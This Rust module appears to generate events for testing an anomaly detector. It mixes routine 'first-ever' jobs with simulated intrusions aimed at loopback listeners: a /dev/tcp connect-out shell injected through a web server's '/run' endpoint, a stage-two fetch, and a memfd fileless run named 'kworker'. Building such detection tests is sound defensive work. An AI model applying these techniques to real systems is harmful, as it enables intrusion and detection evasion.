//! Things that happen for the first time: many ordinary ones, and a few that nobody would call ordinary.
//!
//! All harmless: the "intruder" runs `id`-like commands and talks to a listener of this program on loopback.

use super::jobs::{self, Services, WEB_PORT};
use super::stage::{Stage, install};
use anyhow::{Context, Result};
use serde_json::{Value, json};
use std::io::{Read, Write};
use std::net::TcpListener;
use std::os::fd::AsRawFd;
use std::os::unix::process::CommandExt;
use std::path::Path;
use std::process::Child;

/// One thing to do, once.
pub(super) enum Act {
    /// A job script nobody ran before.
    NewScript(String),
    /// A client asks a service on a port nobody used before.
    NewPort(u16),
    /// A program runs from a folder nobody used before.
    NewPath(String),
    /// A user who never ran a job runs one.
    NewUser(u32),
    /// The web server starts a shell, and the shell connects out.
    WebShell(u16),
    /// A program that exists in memory only runs, and reports to somebody.
    MemoryFile(u16),
    /// The web server starts a shell that downloads something.
    WebDownload(u16),
    /// Something of the story of two hosts.
    Scene(super::story::Scene),
}

/// The n-th ordinary first-ever. They also happen, one a second, while the baseline is learned: on a real machine new
/// scripts, ports, paths and users are routine, and a baseline has to know that.
pub(super) fn first_ever(n: u32) -> Act {
    match n % 4 {
        0 => Act::NewScript(word(n)),
        1 => Act::NewPort(20_000 + (n as u16 * 7) % 12_000),
        2 => Act::NewPath(word(n)),
        _ => Act::NewUser(3_000 + n),
    }
}

/// Twenty-four ordinary first-evers, none of which `first_ever(n)` makes for n < 1000, and the unusual things among them.
pub(super) fn all() -> Vec<Act> {
    let mut acts: Vec<Act> = (1000..1024).map(first_ever).collect();
    acts.insert(7, Act::WebShell(14_444));
    acts.insert(14, Act::MemoryFile(14_446));
    acts.insert(21, Act::WebDownload(14_445));
    acts
}

/// A pronounceable name for a number, without digits: names with digits are alike to the model.
fn word(mut n: u32) -> String {
    const SYLLABLES: [&str; 10] = ["ko", "mi", "ru", "ta", "no", "pel", "sy", "lor", "vi", "zan"];
    let mut word = String::new();
    loop {
        word.push_str(SYLLABLES[(n % 10) as usize]);
        n /= 10;
        if n == 0 {
            return word;
        }
    }
}

/// What a new script does: plain tools, two of them.
fn script_body(n: usize) -> String {
    const TOOLS: [&str; 12] = [
        "ls /usr/share | wc -l",
        "cat /etc/hostname",
        "date +%s",
        "expr 1 + 2",
        "du -s /etc/hostname",
        "uname -r",
        "tr a-z A-Z < /etc/hostname",
        "printf x | md5sum",
        "cut -d: -f7 /etc/passwd | uniq",
        "stat /etc/hostname",
        "basename /etc/hostname",
        "seq 3 | tac",
    ];
    format!("{} > /dev/null\n{} > /dev/null\n", TOOLS[n % 12], TOOLS[(n / 5 + 4) % 12])
}

impl Act {
    /// Does it; the answer is its line in the plan.
    pub(super) fn perform(self, stage: &Stage, services: &Services) -> Result<Value> {
        let (label, kind, pid) = match self {
            Self::NewScript(name) => {
                let script = format!("{name}.sh");
                stage
                    .write_script(&stage.script(&script), &script_body(name.len() + usize::from(name.as_bytes()[0])))?;
                (format!("new script {script}"), "first-ever", finish(jobs::cron(stage, &script, 1000)?)?)
            }
            Self::NewPort(port) => (format!("new port {port}"), "first-ever", new_port(stage, port)?),
            Self::NewPath(name) => (format!("new path {name}"), "first-ever", new_path(stage, &name)?),
            Self::NewUser(user) => {
                (format!("new user {user}"), "first-ever", finish(jobs::cron(stage, "report.sh", user)?)?)
            }
            Self::WebShell(port) => {
                let talk = format!("exec 3<>/dev/tcp/127.0.0.1/{port}; id -u >&3; head -c 3 <&3; uname -a >/dev/null");
                through_web_server(stage, port, &talk)?;
                ("shell under the web server connects out".into(), "unusual", services.web_server())
            }
            Self::MemoryFile(port) => {
                let pid = with_listener(port, || memory_file(stage, port))?;
                ("executed memory file connects out".into(), "unusual", pid)
            }
            Self::WebDownload(port) => {
                let fetch = stage.program("fetch");
                let run = format!("{} --url http://127.0.0.1:{port}/stage2", fetch.display());
                through_web_server(stage, port, &run)?;
                ("web server's shell fetches from outside".into(), "unusual", services.web_server())
            }
            Self::Scene(scene) => scene.play(stage, services)?,
        };
        Ok(json!({"label": label, "kind": kind, "pid": pid}))
    }
}

pub(super) fn finish(mut child: Child) -> Result<u32> {
    child.wait()?;
    Ok(child.id())
}

/// Answers one connection on a loopback port while `act` runs.
pub(super) fn with_listener<T>(port: u16, act: impl FnOnce() -> Result<T>) -> Result<T> {
    let listener = TcpListener::bind(("127.0.0.1", port)).with_context(|| format!("port {port}"))?;
    let answer = std::thread::spawn(move || -> std::io::Result<()> {
        let (mut stream, _) = listener.accept()?;
        stream.set_read_timeout(Some(std::time::Duration::from_secs(2)))?;
        let _ = stream.read(&mut [0; 512]);
        stream.write_all(b"HTTP/1.0 200 OK\r\n\r\n")
    });
    let result = act()?;
    // The visitor has come and gone; if it never came, one visit of our own lets the thread end.
    let _ = std::net::TcpStream::connect(("127.0.0.1", port));
    let _ = answer.join();
    Ok(result)
}

fn new_port(stage: &Stage, port: u16) -> Result<u32> {
    with_listener(port, || finish(jobs::client(stage, port, "/status", 1000)?))
}

fn new_path(stage: &Stage, name: &str) -> Result<u32> {
    let folder = stage.scratch(name);
    std::fs::create_dir_all(&folder)?;
    let tool = folder.join("unpack");
    install(&stage.program("unpack"), &tool)?;
    let script = folder.join("run.sh");
    stage.write_script(&script, &format!("{} --once\n", tool.display()))?;
    finish(jobs::cron_path(stage, &script, 1000)?)
}

/// Sends `command` through the hole in the web server.
fn through_web_server(stage: &Stage, port: u16, command: &str) -> Result<()> {
    let path = format!("/run?{}", command.replace(' ', "+"));
    with_listener(port, || finish(jobs::client(stage, WEB_PORT, &path, 1000)?))?;
    Ok(())
}

/// The client, run from memory.
fn memory_file(stage: &Stage, port: u16) -> Result<u32> {
    let url = format!("http://127.0.0.1:{port}/report");
    from_memory(stage, &stage.program("fetch"), &["fetch", "--url", &url])
}

/// Copies a program into an anonymous memory file and runs it from there; the first argument is its name.
pub(super) fn from_memory(stage: &Stage, program: &Path, args: &[&str]) -> Result<u32> {
    use rustix::fs::{MemfdFlags, memfd_create};
    // Not close-on-exec: the child opens it through its own descriptor table.
    let mut file = std::fs::File::from(memfd_create("kworker", MemfdFlags::empty())?);
    file.write_all(&std::fs::read(program)?)?;
    let path = format!("/proc/self/fd/{}", file.as_raw_fd());
    let mut command = stage.leader_at(Path::new(&path), 0)?;
    if let [name, rest @ ..] = args {
        command.arg0(name).args(rest);
    }
    finish(command.spawn().context("memory file")?)
}
